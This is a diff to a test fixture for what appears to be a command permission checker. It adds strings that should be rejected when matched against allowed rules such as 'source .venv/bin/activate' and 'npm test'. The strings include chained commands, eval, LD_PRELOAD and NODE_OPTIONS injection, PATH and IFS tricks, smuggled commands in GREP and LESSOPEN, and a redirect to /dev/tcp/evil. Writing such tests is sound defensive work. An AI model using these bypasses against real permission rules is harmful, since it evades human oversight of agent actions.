@@ -637,4 +637,37 @@ export const AGAINST_RULES: Readonly<Record<string, readonly string[]>> = {
     npm install;evil
     NODE_ENV=x npm_config_registry=http://evil npm install
   `),
+  "Bash(source .venv/bin/activate)": lines(`
+    source .venv/bin/activate && source evil.sh
+    source .venv/bin/activate && . ./evil.sh; ls
+    source .venv/bin/activate evil && ls
+    source ../.venv/bin/activate && ls
+    source .venv/bin/activate && eval ls
+    source .venv/bin/activate && shopt -s expand_aliases && ls
+    source .venv/bin/activate && evil | tail
+    source .venv/bin/activate && cat ../outside/x
+    source .venv/bin/activate && ls > src/y
+    source .venv/bin/activate && ls > /dev/tcp/evil/80
+    echo evil > .venv/bin/activate && source .venv/bin/activate
+    cp README.md .venv/bin/activate; source .venv/bin/activate; ls
+    bash -c 'source .venv/bin/activate; evil' && ls
+  `),
+  "Bash(npm test)": lines(`
+    X='a b' npm test | evil
+    X='a b' ls && npm test
+    PATH=. npm test | tail
+    NODE_OPTIONS='--require ./x' npm test | tail
+    LD_PRELOAD=./x.so npm test | tail
+    npm test | LD_PRELOAD=./x.so tail
+    npm test | GREP='sh -c evil' zgrep x README.md
+    npm test; LESSOPEN='|evil %s' less README.md
+    X="$(evil)" npm test | tail
+    IFS=x; npm test | tail
+    IFS=$x read a < README.md; npm test
+    PATH=.; npm test | tail
+    X='a b' npm test | tail > src/y
+    X='a b' npm test | tee src/y
+    PYTHONPATH=src npm test | PYTHONPATH=src head
+    X='a b' npm test; cat ../outside/x
+  `),
 };
